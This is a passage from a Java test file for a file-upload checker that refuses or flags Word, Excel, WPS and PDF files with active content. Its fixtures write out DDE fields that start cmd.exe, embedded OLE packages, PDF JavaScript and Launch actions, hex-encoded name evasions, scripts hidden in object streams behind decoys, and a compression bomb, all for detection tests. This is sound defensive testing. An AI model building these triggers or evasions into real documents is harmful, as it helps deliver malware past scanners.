        "_xlfn.LET(_xlpm.x,1,_xlpm.x+SUM(A1))",
        "_xlfn._xlws.SORT(_xlfn.UNIQUE(A1:A9))",
        "_xlfn.LAMBDA(_xlpm.f,_xlpm.f(1))",
        "IF (A1&gt;0,-(A1+B1),(1))",
        "HYPERLINK(\"www.bjchp.gov.cn\")",
        "_xlfn.XLOOKUP(A1,B:B,C:C)",
        "_xlfn.DISPIMG(\"ID_1\",1)",
        "HYPERLINK(\"https://www.bjchp.gov.cn/\"&amp;A1,\"看\")",
        "HYPERLINK(\"#表1!A1\")"
      })
  void a_formula_over_its_own_cells_is_taken(String formula) throws IOException {
    String sheet = "<worksheet><f>" + formula + "</f></worksheet>";
    assertThat(UploadedFile.of("a.xlsx", sheet("xl/worksheets/sheet1.xml", sheet))).isNotNull();
  }

  @Test
  void older_documents_that_start_a_program_are_refused() {
    for (String field :
        List.of("\u0013 DDEAUTO c:\\cmd.exe", "\u0013dde cmd", "\u0013 \u0013 QUOTE 68 68 69")) {
      for (java.nio.charset.Charset bytes :
          List.of(StandardCharsets.ISO_8859_1, StandardCharsets.UTF_16LE)) {
        byte[] stream = new byte[5000];
        byte[] written = field.getBytes(bytes);
        System.arraycopy(written, 0, stream, 1001, written.length);
        refuses("报告.doc", compound(Map.of("WordDocument", stream)), "DDE 域");
        refuses("报告.wps", compound(Map.of("WordDocument", stream)), "DDE 域");
      }
    }
    byte[] harmless =
        Arrays.copyOf("\u0013 PAGE \u0015 DDE cmd".getBytes(StandardCharsets.UTF_8), 5000);
    assertThat(UploadedFile.of("报告.doc", compound(Map.of("WordDocument", harmless)))).isNotNull();
  }

  @Test
  void older_workbooks_that_start_a_program_are_refused() {
    for (int kind : List.of((int) 'c', 1)) {
      ByteBuffer stream = ByteBuffer.allocate(512).order(ByteOrder.LITTLE_ENDIAN);
      record(stream, 0x0809, 0x00, 0x06, 0x05, 0x00);
      record(stream, 0x01AE, 0x01, 0x00, 0x01, 0x04);
      record(stream, 0x01AE, 0, 0, 5, 0, 0, kind, 'm', 'd', 3, 'x');
      byte[] file = compound(Map.of("Workbook", stream.array()));
      if (kind == 'c') {
        refuses("台账.xls", file, "DDE 链接");
        refuses("台账.et", file, "DDE 链接");
      } else {
        assertThat(UploadedFile.of("台账.xls", file)).as("another workbook's path").isNotNull();
      }
    }
  }

  @Test
  void an_object_in_a_document_is_refused() throws IOException {
    for (boolean packed : List.of(true, false)) {
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", WORD_TYPES.getBytes(StandardCharsets.UTF_8));
        parts.put("word/document.xml", "<w/>".getBytes(StandardCharsets.UTF_8));
        parts.put(
            "word/embeddings/oleObject1.bin",
            compound(Map.of(packed ? "\u0001Ole10Native" : "Equation Native", new byte[8])));
        for (Map.Entry<String, byte[]> part : parts.entrySet()) {
          zip.putNextEntry(new ZipEntry(part.getKey()));
          zip.write(part.getValue());
        }
      }
      refuses("a.docx", bytes.toByteArray(), packed ? "打包的附件" : "嵌入的对象");
    }
  }

  @Test
  void what_is_too_large_to_be_looked_through_is_refused() throws IOException {
    refuses(
        "a.xlsx",
        sheet("xl/worksheets/sheet1.xml", "<a>" + " ".repeat(97 * 1024 * 1024) + "</a>"),
        "展开后过大");
  }

  private static byte[] workbook(String part, String target, String type, String content)
      throws IOException {
    return zip(
        part,
        content,
        "[Content_Types].xml",
        "<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></Types>",
        "xl/workbook.xml",
        "<workbook/>",
        "xl/_rels/workbook.xml.rels",
        "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
            + type
            + "\" Target=\""
            + target
            + "\"/></Relationships>");
  }

  private static byte[] document(String part, String content) throws IOException {
    return zip("[Content_Types].xml", WORD_TYPES, "word/document.xml", "<w/>", part, content);
  }

  @Test
  void a_zip_that_is_damaged_or_something_else_is_no_document() throws IOException {
    byte[] word = zip("[Content_Types].xml", WORD_TYPES, "word/document.xml", "<w/>");
    refuses("a.docx", Arrays.copyOf(word, word.length / 2), "内容须与扩展名一致");
    refuses("a.docx", zip("readme.txt", "[Content_Types].xml word/document.xml"), "内容须与扩展名一致");
    refuses("a.xlsx", word, "内容须与扩展名一致");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
        "<< /Type /Catalog /Names << /JavaScript 4 0 R >> >>",
        "<< /Type /Catalog /Names << /J#61vaScript 4 0 R >> >>",
        "<< /Type /Catalog /OpenAction 5 0 R >>",
        "<< /Type /Catalog /OpenAction<</S/URI/URI(http://a)>> >>",
        "<< /S /Launch /F (cmd.exe) >>",
        "<< /Type /Catalog /Names << /EmbeddedFiles 4 0 R >> >>",
        "<< /Type /Catalog /AcroForm << /XFA 4 0 R >> >>",
        "<< /Type /Annot /Subtype /RichMedia >>",
        "<< /S /SubmitForm /F (http://a) >>",
        "<< /Type /Catalog /OpenAction<</S/GoTo/D[3 0 R /Fit]/Next<</S/URI/URI(http://a)>>>> >>",
        "<< /Type /Catalog /OpenAction<</S/GoTo/D[3 0 R /Fit]/Next 5 0 R>> >>",
        "<< /Type /Catalog /AA<</WC<</S/URI/URI(http://a)>>>> >>",
        "<< /Type /Page /AA 7 0 R >>"
      })
  void a_pdf_that_does_something_by_itself_is_told_apart(String object) {
    assertThat(UploadedFile.of("a.pdf", pdf(object)).active()).isTrue();
    assertThat(UploadedFile.of("a.pdf", packed(object, "/FlateDecode", "")).active())
        .as("packed into a stream of objects")
        .isTrue();
  }

  @ParameterizedTest
  @ValueSource(strings = {"/Encrypt", "/#45ncrypt", "/#45#6E#63ryp#74"})
  void an_encrypted_pdf_is_only_downloaded(String name) {
    assertThat(UploadedFile.of("a.pdf", pdf("<< /Root 1 0 R " + name + " 9 0 R >>")).active())
        .isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<< /Type /Catalog /OpenAction [3 0 R /Fit] >>",
        "<< /Type /Catalog /OpenAction << /S /GoTo /D [3 0 R /FitH 792] >> >>",
        "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.beijing.gov.cn) >> >>",
        "<< /Title (JavaScript Launch) /JavaScripted 1 >>",
        "<< /Title (1) /Parent 2 0 R /Next 5 0 R /AAPL:Keywords [] /X (/AA) >>"
      })
  void a_pdf_that_only_turns_to_a_page_or_links_is_not(String object) {
    assertThat(UploadedFile.of("a.pdf", pdf(object)).active()).isFalse();
    assertThat(UploadedFile.of("a.pdf", packed(object, "/FlateDecode", "")).active()).isFalse();
  }

  @Test
  void scripts_in_a_stream_of_objects_are_found_however_it_is_written() {
    byte[] plain = packed("<< /S /URI >>", "/FlateDecode", "");
    assertThat(UploadedFile.of("a.pdf", plain).active()).isFalse();
    byte[] scripts = packed("<< /S /JavaScript /JS (app.alert(1)) >>", "/FlateDecode", "");
    for (String more : List.of("/X(obj)", "/X(1 0 obj <<)", "/X(" + "a".repeat(5000) + ")")) {
      assertThat(
              UploadedFile.of("a.pdf", replaced(scripts, "/First 4", "/First 4" + more)).active())
          .as(more)
          .isTrue();
    }
    for (String end : List.of("stream \n", "stream\t\r\n", "stream%\n")) {
      assertThat(UploadedFile.of("a.pdf", replaced(scripts, "\nstream\n", "\n" + end)).active())
          .as(end)
          .isTrue();
    }
  }

  @Test
  void a_stream_of_objects_does_not_hide_behind_what_looks_like_another_object() {
    byte[] scripts = packed("<< /S /JavaScript /JS (app.alert(1)) >>", "/FlateDecode", "");
    String decoy = "9 0 obj\n<< /N (/ObjStm) >>\nstream\nstream\nx\nendstream\nendobj\n";
    for (String string :
        List.of(
            "/X(obj << /Length 1 /Y\\(a)",
            "/X(obj << /Length 1 >>)",
            "/X(endobj 3 0 obj <</Y\\(a)",
            "%obj << \n")) {
      byte[] hidden = join(replaced(scripts, "/First 4", "/First 4 " + string), decoy);
      assertThat(UploadedFile.of("a.pdf", hidden).active()).as(string).isTrue();
    }
    byte[] plain = packed("<< /S /URI >>", "/FlateDecode", " /X (a\\) >> (b) c) /Y <3E3E> %>>\n");
    assertThat(UploadedFile.of("a.pdf", plain).active()).isFalse();
    byte[] spaced = replaced(plain, ">>\nstream", ">>" + " \n".repeat(100_000) + "stream");
    assertThat(UploadedFile.of("a.pdf", spaced).active()).isFalse();
  }

  private static byte[] replaced(byte[] file, String text, String by) {
    return new String(file, StandardCharsets.ISO_8859_1)
        .replace(text, by)
        .getBytes(StandardCharsets.ISO_8859_1);
  }

  @Test
  void what_cannot_be_looked_into_counts_as_active() {
    String harmless = "<< /Type /Catalog >>";
    assertThat(UploadedFile.of("a.pdf", packed(harmless, "/LZWDecode", "")).active()).isTrue();
    assertThat(
            UploadedFile.of(
                    "a.pdf", packed(harmless, "/FlateDecode", " /DecodeParms << /Predictor 12 >>"))
                .active())
        .isTrue();
    assertThat(
            UploadedFile.of(
                    "a.pdf",
                    join(packed(harmless, "/FlateDecode", ""), "trailer << /Encrypt 9 0 R >>"))
                .active())
        .isTrue();
    byte[] bomb = packed("0".repeat(65 * 1024 * 1024), "/FlateDecode", "");
    assertThat(bomb.length).isLessThan(1024 * 1024);
    assertThat(UploadedFile.of("a.pdf", bomb).active()).isTrue();
  }

  private static void refuses(String name, byte[] content, String why) {
    assertThatThrownBy(() -> UploadedFile.of(name, content))
        .as(name)
        .isInstanceOf(BadInput.class)
        .hasMessageContaining(why);
  }

  private static byte[] pdf(String object) {
    return ("%PDF-1.7\n1 0 obj\n" + object + "\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
        .getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] packed(String object, String filter, String more) {
    Deflater deflater = new Deflater();
    byte[] plain = ("1 0 " + object).getBytes(StandardCharsets.ISO_8859_1);
    deflater.setInput(plain);
    deflater.finish();
    byte[] packed = new byte[plain.length / 100 + 4096];
    int length = deflater.deflate(packed);
    deflater.end();
    String head =
        "%PDF-1.7\n2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter "
            + filter
            + more
            + " /Length "
            + length
            + " >>\nstream\n";
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    all.writeBytes(head.getBytes(StandardCharsets.ISO_8859_1));
    all.write(packed, 0, length);
    all.writeBytes("\nendstream\nendobj\n%%EOF\n".getBytes(StandardCharsets.ISO_8859_1));
    return all.toByteArray();
  }

  private static byte[] join(byte[] first, String then) {
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    all.writeBytes(first);
    all.writeBytes(then.getBytes(StandardCharsets.ISO_8859_1));
    return all.toByteArray();
  }

  /** A compound file with these entries and what documents of their kind hold. */
  private static byte[] compound(String... entries) {
    Map<String, byte[]> contents = new LinkedHashMap<>();
    for (String entry : entries) {
      contents.put(entry, entry.endsWith("book") ? workbook(0, 0x0010) : new byte[8]);
    }
    return compound(contents);
  }

  private static byte[] compound(Map<String, byte[]> contents) {
    return compound(contents, false);
  }

  /**
   * A compound file: the table of sectors, the directory, the table of small sectors, and the
   * streams, whose sectors stand in reverse order.
   *
   * @param small whether streams go into the stream of small sectors
   */
  private static byte[] compound(Map<String, byte[]> contents, boolean small) {
    int directorySectors = (contents.size() + 3) / 4;
    int mini = 1 + directorySectors;
    ByteBuffer file = ByteBuffer.allocate(512 * 128).order(ByteOrder.LITTLE_ENDIAN);
    file.put(
        new byte[] {
          (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1
        });
    file.putShort(0x1E, (short) 9).putShort(0x20, (short) 6);
    file.putInt(0x30, 1).putInt(0x38, 4096).putInt(0x3C, small ? mini : -2).putInt(0x44, -2);
    for (int i = 1; i < 109; i++) {
      file.putInt(0x4C + 4 * i, -1);
    }
    int[] next = new int[128];
    Arrays.fill(next, -1);
    next[0] = -3;
    for (int i = 1; i <= directorySectors; i++) {
      next[i] = i == directorySectors ? -2 : i + 1;
    }
    next[mini] = -2;
    int free = mini + 1;
    int entry = 0;
    for (Map.Entry<String, byte[]> one : contents.entrySet()) {
      byte[] content =
          one.getValue().length < 4096 && !small
              ? Arrays.copyOf(one.getValue(), 4096)
              : one.getValue();
      int at = 1024 + 128 * entry++;
      byte[] name = (one.getKey() + "\0").getBytes(StandardCharsets.UTF_16LE);
      file.position(at);
      file.put(name);
      boolean root = one.getKey().equals("Root Entry");
      int sectors = (content.length + 511) / 512;
      file.put(at + 0x40, (byte) name.length).put(at + 0x42, (byte) (root ? 5 : 2));
      file.putInt(at + 0x74, root && !small ? -2 : free + sectors - 1);
      file.putInt(at + 0x78, root && !small ? 0 : content.length);
      if (small && !root) {
        // the only stream, from the first small sector on, inside the stream of the root
        file.putInt(at + 0x74, 0);
        for (int i = 0; i < 128; i++) {
          file.putInt(512 + 512 * mini + 4 * i, i < (content.length + 63) / 64 - 1 ? i + 1 : -2);
        }
        continue;
      }
      for (int i = 0; i < sectors; i++) {
        int sector = free + sectors - 1 - i;
        next[sector] = i == sectors - 1 ? -2 : sector - 1;
        file.position(512 + 512 * sector);
        file.put(content, 512 * i, Math.min(512, content.length - 512 * i));
      }
      free += sectors;
    }
    for (int i = 0; i < 128; i++) {
      file.putInt(512 + 4 * i, next[i]);
    }
    return Arrays.copyOf(file.array(), 512 + 512 * free);
  }

  /**
   * The main stream of a workbook with one sheet, with so much before the list of sheets that it
   * lies across two sectors.
   *
   * @param listed kind of the sheet in the list of sheets
   * @param begun kind that the sheet itself gives
   */
  private static byte[] workbook(int listed, int begun) {
    ByteBuffer stream = ByteBuffer.allocate(1024).order(ByteOrder.LITTLE_ENDIAN);
    record(stream, 0x0809, 0x00, 0x06, 0x05, 0x00);
    record(stream, 0x0042, new int[487]);
    record(stream, 0x0085, 0x00, 0x02, 0x00, 0x00, 0x02, listed, 0x01, 0x00, 'a');
    record(stream, 0x000A);
    record(stream, 0x0809, 0x00, 0x06, begun, 0x00);
    record(stream, 0x000A);
    return stream.array();
  }

  private static void record(ByteBuffer stream, int type, int... content) {
    stream.putShort((short) type).putShort((short) content.length);
    for (int one : content) {
      stream.put((byte) one);
    }
  }

  private static byte[] zip(String... namesAndContents) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (int i = 0; i < namesAndContents.length; i += 2) {
        zip.putNextEntry(new ZipEntry(namesAndContents[i]));
        zip.write(namesAndContents[i + 1].getBytes(StandardCharsets.UTF_8));
      }
    }
    return bytes.toByteArray();
  }
}
